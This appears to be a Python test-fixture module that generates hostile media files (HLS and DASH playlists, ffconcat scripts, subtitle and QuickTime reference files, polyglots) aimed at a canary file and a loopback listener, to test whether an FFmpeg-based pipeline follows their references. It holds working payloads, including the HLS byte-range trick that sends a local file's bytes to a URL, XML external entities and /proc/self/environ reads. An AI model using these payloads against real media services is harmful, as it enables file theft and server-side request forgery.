"""Recordings that are none: named ``.mp4``, each refers to another local file, to a listener on loopback, or both.

Written by hand after the formats' own descriptions. ``FOLLOWED`` names those that a trusting FFmpeg really follows.
"""

import io
import wave
import zipfile
from dataclasses import dataclass
from pathlib import Path

from tests.hostile_containers import (
    alias,
    avi_with_subtitles,
    box,
    chunk,
    matroska,
    mp4,
    reference_movie,
    url_reference,
    xbin,
)

CANARY = "LECTERN-CANARY-4f1c2a"


@dataclass(frozen=True)
class Target:
    """What a file tries to get at: a local file, and ``host:port`` on loopback."""

    file: Path
    host: str

    @property
    def url(self) -> str:
        return f"http://{self.host}/{self.file.name}"


def hls(*references: str) -> bytes:
    """A media playlist."""
    entries = "".join(f"#EXTINF:1,\n{one}\n" for one in references)
    return f"#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n{entries}#EXT-X-ENDLIST\n".encode()


def master(*references: str) -> bytes:
    """A playlist of playlists, with a sound track and a subtitle track of their own."""
    text = "#EXTM3U\n"
    for kind in ("AUDIO", "SUBTITLES"):
        text += f'#EXT-X-MEDIA:TYPE={kind},GROUP-ID="g",NAME="n",DEFAULT=YES,URI="{references[0]}"\n'
    for one in references:
        text += f'#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="g",SUBTITLES="g"\n{one}\n'
    return text.encode()


def keyed(target: Target) -> bytes:
    """A playlist whose key and initialization section are elsewhere."""
    return (
        f'#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="{target.url}"\n'
        f'#EXT-X-MAP:URI="{target.file}"\n#EXTINF:1,\n{target.file}\n#EXT-X-ENDLIST\n'
    ).encode()


def byte_ranges(target: Target) -> bytes:
    """The trick of the well-known attack: a file's bytes as ranges of a segment that is sent elsewhere."""
    return (
        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:1\n"
        + "".join(f"#EXTINF:1,\n#EXT-X-BYTERANGE:16@{16 * n}\n{target.file}\n" for n in range(4))
        + f"#EXTINF:1,\n{target.url}?x=\n#EXT-X-ENDLIST\n"
    ).encode()


def ffconcat(*references: str) -> bytes:
    """FFmpeg's own script of files in a row."""
    return ("ffconcat version 1.0\n" + "".join(f"file '{one}'\nduration 1\n" for one in references)).encode()


def dash(target: Target) -> bytes:
    """A manifest with a base address, a list, a template and one more manifest."""
    part = '<AdaptationSet mimeType="{0}"><Representation id="{1}" bandwidth="1">{2}</Representation></AdaptationSet>'
    sets = part.format("audio/wav", "1", f"<BaseURL>{target.file}</BaseURL>")
    sets += part.format("audio/wav", "2", f"<BaseURL>{target.url}</BaseURL>")
    segments = f'<SegmentList duration="1"><Initialization sourceURL="{target.url}"/>'
    segments += f'<SegmentURL media="file:{target.file}"/></SegmentList>'
    sets += part.format("video/mp4", "3", segments)
    return (
        '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://'
        f'{target.file}"><!ENTITY y SYSTEM "{target.url}">]>'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" type="static" '
        'mediaPresentationDuration="PT4S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        f'<Period duration="PT4S" xlink:href="{target.url}"><BaseURL>&x;&y;</BaseURL>{sets}</Period></MPD>'
    ).encode()


def plain_dash(reference: str) -> bytes:
    """The smallest manifest that FFmpeg follows."""
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT10S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        '<AdaptationSet mimeType="audio/wav"><Representation id="1" bandwidth="1">'
        f"<BaseURL>{reference}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def smooth_streaming(target: Target) -> bytes:
    """An ``.ism`` client manifest."""
    return (
        '<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2" MinorVersion="2" Duration="10000000">'
        f'<StreamIndex Type="video" Url="{target.url}"><QualityLevel Index="0" Bitrate="1" FourCC="H264"/>'
        '<c n="0" d="1"/></StreamIndex></SmoothStreamingMedia>'
    ).encode()


def zipped(content: bytes, name: str) -> bytes:
    """A ZIP archive of one file."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(name, content)
    return held.getvalue()


def sound(path: Path, seconds: int = 2) -> Path:
    """What is worth stealing: a WAV that any playlist could play, with the canary in it."""
    with wave.open(str(path), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes((CANARY.encode() * 800)[: 16000 * seconds // 32 * 32])
    with path.open("ab") as out:
        out.write(chunk(b"LIST", b"INFO" + chunk(b"INAM", CANARY.encode())))
    return path


_HLS = ("-f", "hls", "-extension_picky", "0", "-allowed_extensions", "ALL")
_CONCAT = ("-f", "concat", "-safe", "0")
_DASH = ("-f", "dash", "-allowed_extensions", "ALL")
FOLLOWED: dict[str, tuple[str, ...]] = {
    "hls_absolute": _HLS,
    "hls_file": _HLS,
    "hls_relative": _HLS,
    "hls_http": _HLS,
    "hls_master": _HLS,
    "hls_byte_ranges": _HLS,
    "ffconcat": _CONCAT,
    "ffconcat_relative": _CONCAT,
    "ffconcat_http": _CONCAT,
    "dash": _DASH,
    "dash_http": _DASH,
    "dash_all": _DASH,
    "mov_alias": ("-f", "mov", "-enable_drefs", "1"),
}
"""Kinds that an FFmpeg told to follow everything does follow, and the options for it: they are real attacks."""

HARMLESS = frozenset(
    {"mov_url_reference", "mov_alias", "mov_tref", "mov_then_hls"}
    | {"avi_gab2_hls", "avi_gab2_byte_ranges", "avi_gab2_ffconcat", "avi_gab2_xbin"}
)
"""Kinds that hold sound or pictures of their own, which may be used. What they refer to may not."""


def hostile_files(target: Target) -> dict[str, bytes]:
    """Every kind by name."""
    path, url, host = str(target.file), target.url, target.host
    name = target.file.name
    playlist = hls(path, url)
    return {
        "hls_absolute": hls(path),
        "hls_file": hls(f"file:{path}"),
        "hls_file_url": hls(f"file://{path}"),
        "hls_relative": hls(name),
        "hls_http": hls(url),
        "hls_https": hls(url.replace("http", "https")),
        "hls_tcp": hls(f"tcp://{host}", f"udp://{host}", f"ftp://{host}/a", f"rtmp://{host}/a", f"gopher://{host}/"),
        "hls_crypto": hls(f"crypto:{path}", f"crypto+{url}"),
        "hls_concat": hls(f"concat:{path}|{url}"),
        "hls_concatf": hls(f"concatf:{path}"),
        "hls_subfile": hls(f"subfile,,start,0,end,9999,,:{path}"),
        "hls_data": hls("data:application/vnd.apple.mpegurl;base64,I0VYVE0zVQo="),
        "hls_others": hls(f"async:{path}", f"cache:{path}", f"md5:{path}", f"tee:{path}", f"unix:{path}", "pipe:0"),
        "hls_device": hls("/dev/stdin", "/proc/self/environ", "fd:0"),
        "hls_key_and_map": keyed(target),
        "hls_byte_ranges": byte_ranges(target),
        "hls_master": master(path, url),
        "hls_master_http": master(url, path),
        "hls_bom": b"\xef\xbb\xbf" + playlist,
        "hls_newlines": b"\r\n\r\n" + playlist.replace(b"\n", b"\r\n"),
        "ffconcat": ffconcat(path),
        "ffconcat_relative": ffconcat(name),
        "ffconcat_http": ffconcat(url),
        "ffconcat_options": ffconcat(path).replace(b"duration 1", b"option format_whitelist ALL\nstream\nmeta a b"),
        "dash": plain_dash(name),
        "dash_http": plain_dash(url),
        "dash_all": dash(target),
        "smooth_streaming": smooth_streaming(target),
        "smil": f'<smil><body><video src="{url}"/><audio src="file://{path}"/></body></smil>'.encode(),
        "asx": f'<asx version="3.0"><entry><ref href="{url}"/><ref href="{path}"/></entry></asx>'.encode(),
        "pls": f"[playlist]\nFile1={path}\nFile2={url}\nNumberOfEntries=2\nVersion=2\n".encode(),
        "real_playlist": f"{url}\nfile://{path}\n".encode(),
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {host.partition(':')[2]} "
        "RTP/AVP 0\na=rtpmap:0 PCMU/8000\n".encode(),
        "rtsp": b"RTSPtext\r\nrtsp://" + host.encode() + b"/a\r\n",
        "svg": f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
        f'width="9" height="9"><image x:href="{url}"/><image x:href="file://{path}"/></svg>'.encode(),
        "image_pattern": (path.replace(".wav", "%03d.wav") + "\n").encode(),
        "vobsub_index": b"# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n",
        "ffmetadata": f";FFMETADATA1\ntitle={path}\n[STREAM]\nurl={url}\n".encode(),
        "avisynth": f'WavSource("{path}")\nLoadModule("{path}")\n'.encode(),
        "vapoursynth": f"import urllib.request\nopen({path!r}).read()\nurllib.request.urlopen({url!r})\n".encode(),
        "lavfi": f"amovie={path}[out0];movie={url}[out1]".encode(),
        "webvtt": f"WEBVTT\n\n00:00.000 --> 00:09.000\n{path}\n".encode(),
        "subrip": f"1\n00:00:00,000 --> 00:00:09,000\n<img src='{url}'>\n".encode(),
        "ass": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {path}\n[Events]\nDialogue: 0,0:00:00.00,"
        f"0:00:09.00,Default,,0,0,0,,{url}\n".encode(),
        "xbin": xbin(path.encode()),
        "ansi": f"\x1b[2J\x1b[31m{path}\r\n{url}\r\n\x1a".encode(),
        "sauce": f"{path}\n\x1aSAUCE00".encode().ljust(512, b"\0"),
        "gif_then_hls": b"GIF89a" + playlist,
        "zip_of_hls": zipped(playlist, "a.m3u8"),
        "mkv_linked": matroska(path, url, playlist),
        "avi_gab2_hls": avi_with_subtitles(playlist),
        "avi_gab2_byte_ranges": avi_with_subtitles(byte_ranges(target)),
        "avi_gab2_ffconcat": avi_with_subtitles(ffconcat(path)),
        "avi_gab2_xbin": avi_with_subtitles(xbin(path.encode())),
        "mov_url_reference": mp4(references=(url_reference(f"file://{path}"), url_reference(url))),
        "mov_alias": mp4(references=(alias(target.file),)),
        "mov_tref": mp4(extra=box(b"udta", box(b"url ", url.encode()), box(b"rtsp", f"rtsp://{host}/a".encode()))),
        "mov_reference_movie": reference_movie(f"file://{path}", url, f"rtsp://{host}/a"),
        "mov_then_hls": mp4() + playlist,
        "ftyp_then_hls": box(b"ftyp", b"isom", bytes(4), b"isom") + playlist,
        "hls_then_mov": playlist + mp4(),
        "id3_then_hls": b"ID3\4\0\0\0\0\0\0" + playlist,
        "riff_then_hls": b"RIFF\xff\0\0\0WAVE" + playlist,
    }
